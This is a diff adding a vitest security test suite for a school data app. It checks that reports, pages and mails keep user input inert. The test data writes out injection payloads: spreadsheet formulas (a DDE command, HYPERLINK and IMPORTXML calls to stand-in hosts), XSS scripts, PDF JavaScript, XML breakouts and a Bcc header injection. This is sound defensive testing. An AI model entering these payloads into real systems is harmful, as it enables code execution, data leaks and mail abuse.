@@ -1,0 +1,178 @@
+// What somebody typed, seen in mails, Excel, PDF, answers and pages: never a formula, never markup.
+import { join } from 'node:path';
+import { auth } from '@gerbang/contract/auth';
+import { dataAdmin } from '@gerbang/contract/data-admin';
+import { dataDiri } from '@gerbang/contract/data-diri';
+import { dataInventaris } from '@gerbang/contract/data-inventaris';
+import { dataSiswa } from '@gerbang/contract/data-siswa';
+import { laporan } from '@gerbang/contract/laporan';
+import { profile } from '@gerbang/contract/profile';
+import { readPdf } from '@gerbang/kit/pdf-text';
+import { validBarang, validForm } from '@gerbang/kit/samples';
+import { readWorkbook } from '@gerbang/kit/xlsx';
+import PostalMime, { type Email } from 'postal-mime';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { Answer } from './send.ts';
+import { filesUnder, type Person, startTarget, type Target } from './target.ts';
+
+const SCHOOL = 'Akademi "<b>&\'Uji</b>"';
+const SCRIPT = '<script>alert("1")</script><img src=x onerror=alert(2)>';
+
+let target: Target;
+let admin: Person;
+let pimpinan: Person;
+beforeAll(async () => {
+  target = await startTarget({ SMTP_URL: '', NAMA_SEKOLAH: SCHOOL });
+  [admin, pimpinan] = [await target.as('admin'), await target.as('pimpinan')];
+});
+afterAll(() => target.close());
+
+const tahun_ajaran = '2041/2042';
+const names = [
+  '=HYPERLINK("https://jahat.example","klik")',
+  "=cmd|'/c calc'!A1",
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '\uff1d1+1',
+  '="a"&"b"',
+  '=IMPORTXML(CONCAT("https://x/",A1),"//a")',
+  '%0A=1+1',
+  "'=1+1",
+  ']]></t></is></c><c t="str"><f>1+1</f>&#x3c;&amp;',
+  ') Tj ET /JavaScript (app.alert(1)) BT (',
+  SCRIPT,
+];
+
+const words = (bytes: Buffer) =>
+  readPdf(bytes)
+    .pages.flat()
+    .map(({ text }) => text)
+    .join(' ');
+
+describe('Excel and PDF', () => {
+  let workbook: ReturnType<typeof readWorkbook>;
+  let pdf: Answer;
+  beforeAll(async () => {
+    for (const nama of names) {
+      await target.build.dataSiswa({
+        nama,
+        asal_sekolah: nama,
+        tempat_lahir: nama,
+        tahun_ajaran,
+        status_data: 'Tervalidasi',
+      });
+    }
+    workbook = readWorkbook((await pimpinan.call(laporan.dataSiswaExcel, { body: { tahun_ajaran } })).bytes);
+    pdf = await pimpinan.call(laporan.dataSiswaPdf, { body: { tahun_ajaran } });
+  });
+
+  test.each(names)('a name %s is a text in each cell', (nama) => {
+    const cells = Object.values(workbook.cells).filter(({ value }) => value === nama);
+    expect(cells.length).toBeGreaterThanOrEqual(2);
+    for (const { type } of cells) expect(type).toBe('text');
+  });
+
+  test('the workbook reaches nothing outside it', () => {
+    const parts = Object.keys(workbook.parts);
+    expect(parts.filter((part) => /externalLink|macro|vba|hyperlink|connections/i.test(part))).toEqual([]);
+    expect(workbook.parts['xl/worksheets/sheet1.xml']).not.toMatch(/<hyperlink|<f[ >]/);
+  });
+
+  test('the PDF does nothing when it is opened, and what was typed is drawn', () => {
+    expect(readPdf(pdf.bytes).dictionaries).not.toMatch(/\/(URI|JS|JavaScript|Launch|OpenAction|AA)\b/);
+    expect(pdf.bytes.toString('latin1')).not.toContain('app.alert(1)');
+    expect(words(pdf.bytes)).toContain('1+1');
+  });
+
+  test('the inventory’s report keeps formulas as texts', async () => {
+    const keterangan = '=1+1\n=HYPERLINK("x")';
+    await admin.call(dataInventaris.create, { body: { ...validBarang, nama_barang: '=2+2', keterangan } });
+    const { cells } = readWorkbook((await admin.call(laporan.dataInventarisExcel)).bytes);
+    const found = Object.values(cells).filter(({ value }) => String(value).startsWith('='));
+    expect(found.map(({ type }) => type)).toEqual(['text', 'text']);
+  });
+
+  test('reports are downloads of their own type, never shown in place', () => {
+    expect(pdf.headers).toMatchObject({
+      'content-type': 'application/pdf',
+      'content-disposition': expect.stringMatching(/^attachment; /),
+      'x-content-type-options': 'nosniff',
+      'cache-control': 'private, no-store',
+    });
+  });
+});
+
+describe('a script in every text field', () => {
+  const texts = ['nama', 'tempat_lahir', 'agama', 'asal_sekolah'] as const;
+  const scripted = Object.fromEntries(texts.map((field) => [field, SCRIPT]));
+
+  test('answers are JSON that no browser takes for a page', async () => {
+    const person = await target.as('siswa');
+    const made = await person.call(dataDiri.create, { body: { ...validForm, ...scripted } });
+    expect(made.status).toBe(201);
+    const replies = [
+      made,
+      await person.call(dataDiri.get),
+      await admin.call(dataSiswa.list, { query: { statusData: 'Menunggu Validasi', search: 'script' } }),
+      await admin.request('GET', `/api/v1/data-siswa?search=${encodeURIComponent(SCRIPT)}`),
+      await target.anyone.request('GET', `/api/v1/${encodeURIComponent(SCRIPT)}`),
+    ];
+    for (const { headers } of replies) {
+      expect(headers['content-type']).toBe('application/json; charset=utf-8');
+      expect(headers['x-content-type-options']).toBe('nosniff');
+      expect(headers['content-security-policy']).toMatch(/default-src 'none'/);
+    }
+  });
+
+  test('the page says nothing of what was asked, and the school’s name is escaped in it', async () => {
+    for (const path of ['/', `/login?x=${encodeURIComponent(SCRIPT)}`, `/${encodeURIComponent(SCRIPT)}`]) {
+      const page = (await target.send('GET', path)).bytes.toString();
+      expect(page).not.toContain('alert(');
+      expect(page).not.toContain('<b>&');
+      expect(page).toContain('Akademi &#34;&#60;b&#62;');
+    }
+  });
+
+  test('mails hold it as text, and no line of theirs can be a header', async () => {
+    const person = await target.as('siswa', { email: `surat41@surel.example` });
+    const nim = person.akun.nim ?? '';
+    const { id } = await target.build.dataSiswa({ nim, nama: SCRIPT });
+    const alasan_penolakan = `${SCRIPT}\nBcc: penyerang@jahat.example\r\n\r\n<a href="https://jahat.example">Klik</a>`;
+    expect((await admin.call(dataSiswa.tolak, { params: { id }, body: { alasan_penolakan } })).status).toBe(200);
+    const mail = await mailTo(person.akun.email);
+    expect(mail.to?.map(({ address }) => address)).toEqual([person.akun.email]);
+    expect([mail.cc, mail.bcc]).toEqual([undefined, undefined]);
+    expect(mail.html).not.toMatch(/<script|<img src=x|<a href="https:\/\/jahat/);
+    expect(mail.html).toContain('&#60;script&#62;');
+    expect(mail.text).toContain('<script>');
+    expect(mail.attachments).toEqual([]);
+  });
+
+  test('a mail names no other host and holds no link with a secret', async () => {
+    const akun = await target.build.akun({ email: `kode41@surel.example` });
+    await target.anyone.call(auth.forgetPassword, { body: { email: akun.email } });
+    const mail = await mailTo(akun.email);
+    expect(`${mail.html}${mail.text}`).not.toMatch(/https?:\/\/(?!127\.0\.0\.1|www\.w3\.org)/);
+    expect(mail.html).not.toMatch(/<(img|script|link|iframe)\b/);
+  });
+
+  test('an admin’s profile with a script, in the pimpinan’s list', async () => {
+    const body = { nama: SCRIPT, alamat: SCRIPT, nomor_whatsapp: '0812' };
+    expect((await admin.call(profile.simpan, { body })).status).toBe(200);
+    const { body: list, headers } = await pimpinan.call(dataAdmin.list);
+    expect(list.data.rows.some((row) => row.profile?.nama === SCRIPT)).toBe(true);
+    expect(headers['content-type']).toBe('application/json; charset=utf-8');
+  });
+});
+
+/** The mail to this address, when the outbox has written it. */
+async function mailTo(email: string): Promise<Email> {
+  const found = async () => {
+    const files = await filesUnder(join(target.dataDir, 'surat')).catch(() => []);
+    const mails = await Promise.all(files.map(({ bytes }) => PostalMime.parse(bytes)));
+    return mails.find(({ to }) => to?.some(({ address }) => address === email));
+  };
+  await expect.poll(found, { timeout: 40_000, interval: 100 }).toBeDefined();
+  return (await found()) as Email;
+}
